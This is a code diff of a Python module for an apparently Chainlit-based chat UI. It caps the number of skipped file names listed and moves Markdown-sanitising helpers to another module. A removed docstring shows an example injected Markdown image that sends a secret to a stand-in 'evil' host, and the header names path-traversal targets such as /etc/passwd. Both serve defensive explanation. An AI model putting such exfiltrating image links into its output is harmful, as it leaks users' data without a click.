@@ -3,27 +3,26 @@
 Only files that resolve inside the session's ``execution_cwd`` are ever handed to Chainlit for
 serving; a path that the generated code made up (``/etc/passwd``, ``../other-session/x``, a
 symlink out of the folder) is refused here, before Chainlit copies it into its file store.
-Text helpers that turn engine output into safe Markdown live here too, because Markdown is the
-only way we show content (``unsafe_allow_html`` stays off).
+Text that reaches the browser is made safe in ``ui.markdown``.
 """
 
 from __future__ import annotations
 
 import json
 import logging
-import re
 from dataclasses import dataclass
 from pathlib import Path
 from typing import Any, Iterable
 
+from ui.markdown import code_text
+
 logger = logging.getLogger("weaver.ui.files")
 
 IMAGE_SUFFIXES = frozenset({".png", ".jpg", ".jpeg", ".gif", ".webp", ".svg", ".bmp"})
-MAX_TABLE_ROWS = 20
-MAX_CELL_CHARS = 80
 # Chainlit reads every attached file whole into memory, so a round attaches a bounded number.
 MAX_ARTIFACTS_SHOWN = 20
 MAX_ARTIFACT_BYTES = 25 * 1000 * 1000
+MAX_NAMES_LISTED = 10
 
 
 def uploads_from_elements(elements: Iterable[Any] | None) -> list[dict[str, str]]:
@@ -114,125 +113,24 @@ def select_artifacts(
         except OSError:
             continue  # deleted since the round reported it
         if size > max_bytes:
-            too_big.append(f"`{_code_text(artifact.name)}` ({size / 1e6:.0f} MB)")
+            too_big.append(f"`{code_text(artifact.name)}` ({size / 1e6:.0f} MB)")
         elif len(shown) >= max_count:
-            over_count.append(f"`{_code_text(artifact.name)}`")
+            over_count.append(f"`{code_text(artifact.name)}`")
         else:
             shown.append(artifact)
     notes: list[str] = []
     if too_big:
+        too_big = too_big[:MAX_NAMES_LISTED] + ([f"{len(too_big) - MAX_NAMES_LISTED:,} more"] if len(too_big) > MAX_NAMES_LISTED else [])
         notes.append(
             f"Not attached because each is over {max_bytes / 1e6:.0f} MB: {', '.join(too_big)}; "
             "they are in the session's working folder."
         )
     if over_count:
+        named = ", ".join(over_count[:MAX_NAMES_LISTED])
+        if len(over_count) > MAX_NAMES_LISTED:
+            named += f" and {len(over_count) - MAX_NAMES_LISTED:,} more"
         notes.append(
-            f"Only the first {max_count} files are attached; {len(over_count)} more are in the session's "
-            f"working folder: {', '.join(over_count)}."
+            f"Showing {len(shown)} of {len(shown) + len(over_count) + len(too_big):,} files; the others are in "
+            f"the session's working folder: {named}."
         )
     return ArtifactSelection(shown, notes)
-
-
-def _code_text(text: str) -> str:
-    """Text safe inside a single-backtick code span (a name cannot close it or break the line)."""
-    return text.replace("`", "'").replace("\r", " ").replace("\n", " ")
-
-
-# A fence opens at most 3 spaces in; a backtick fence's info string has no backtick (CommonMark).
-_FENCE_OPEN = re.compile(r"^ {0,3}(`{3,}(?=[^`]*$)|~{3,})")
-# Code spans on one line only, never after a backslash: when unsure, text counts as prose and is
-# neutralised, which at worst changes how a code span looks, never lets an image through.
-_CODE_SPAN = re.compile(r"(?<![`\\])(`+)(?!`)[^\n]*?(?<!`)\1(?!`)")
-_IMAGE_OPEN = re.compile(r"!\[")
-
-
-def neutralise_images(text: str) -> str:
-    """Turn Markdown image syntax (``![alt](url)``) into link text, outside code blocks and spans.
-
-    Model-written text is rendered as Markdown, and the browser fetches every image URL at once:
-    an injected ``![x](https://evil/?q=<secret>)`` would leak data without a click. A link needs a
-    click, so ``![alt](url)`` becomes ``[image: alt](url)``. Fenced code and code spans are kept
-    byte for byte (they render as text anyway); an unclosed fence runs to the end, as in Markdown.
-    Anything this scanner is unsure of is treated as prose, so mistakes err on the safe side.
-    """
-    if "![" not in text:
-        return text
-    out: list[str] = []
-    prose: list[str] = []
-    fence_mark: str | None = None
-    for line in text.splitlines(keepends=True):
-        match = _FENCE_OPEN.match(line)
-        if fence_mark is None:
-            if match:
-                out.append(_neutralise_prose("".join(prose)))
-                prose = []
-                fence_mark = match.group(1)
-                out.append(line)
-            else:
-                prose.append(line)
-            continue
-        out.append(line)
-        if match and match.group(1)[0] == fence_mark[0] and len(match.group(1)) >= len(fence_mark) and not line.strip().strip(fence_mark[0]):
-            fence_mark = None
-    out.append(_neutralise_prose("".join(prose)))
-    return "".join(out)
-
-
-def _neutralise_prose(text: str) -> str:
-    """Neutralise images in text without fences, leaving inline code spans alone."""
-    parts: list[str] = []
-    last = 0
-    for span in _CODE_SPAN.finditer(text):
-        parts.append(_IMAGE_OPEN.sub("[image: ", text[last : span.start()]))
-        parts.append(span.group(0))
-        last = span.end()
-    parts.append(_IMAGE_OPEN.sub("[image: ", text[last:]))
-    return "".join(parts)
-
-
-def fence(text: str, language: str = "") -> str:
-    """A fenced code block whose fence is longer than any backtick run inside ``text``."""
-    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
-    ticks = "`" * max(3, longest + 1)
-    body = text if text.endswith("\n") or not text else text + "\n"
-    return f"{ticks}{language}\n{body}{ticks}"
-
-
-def _cell(value: Any) -> str:
-    text = "" if value is None else str(value)
-    text = text.replace("\\", "\\\\").replace("|", "\\|").replace("\r", " ").replace("\n", " ")
-    if len(text) > MAX_CELL_CHARS:
-        text = text[: MAX_CELL_CHARS - 1] + "…"
-    return text
-
-
-def table_markdown(payload: str) -> str:
-    """Render a ``table`` attachment (``{"columns","rows","shape"}``) as a Markdown table."""
-    try:
-        table = json.loads(payload)
-    except json.JSONDecodeError:
-        return fence(payload)
-    if not isinstance(table, dict):
-        return fence(payload)
-    columns = [_cell(c) for c in table.get("columns") or []]
-    rows = table.get("rows") or []
-    if not columns and rows and isinstance(rows[0], list):
-        columns = [str(i) for i in range(len(rows[0]))]
-    lines: list[str] = []
-    if columns:
-        lines.append("| " + " | ".join(columns) + " |")
-        lines.append("|" + "|".join(" --- " for _ in columns) + "|")
-        for row in rows[:MAX_TABLE_ROWS]:
-            cells = [_cell(v) for v in (row if isinstance(row, list) else [row])]
-            cells = (cells + [""] * len(columns))[: len(columns)]
-            lines.append("| " + " | ".join(cells) + " |")
-    shape = table.get("shape")
-    notes: list[str] = []
-    if isinstance(shape, list) and len(shape) == 2:
-        notes.append(f"shape: {shape[0]} rows × {shape[1]} columns")
-    if len(rows) > MAX_TABLE_ROWS:
-        notes.append(f"first {MAX_TABLE_ROWS} of {len(rows)} rows shown")
-    if notes:
-        lines.append("")
-        lines.append("_" + "; ".join(notes) + "_")
-    return "\n".join(lines)
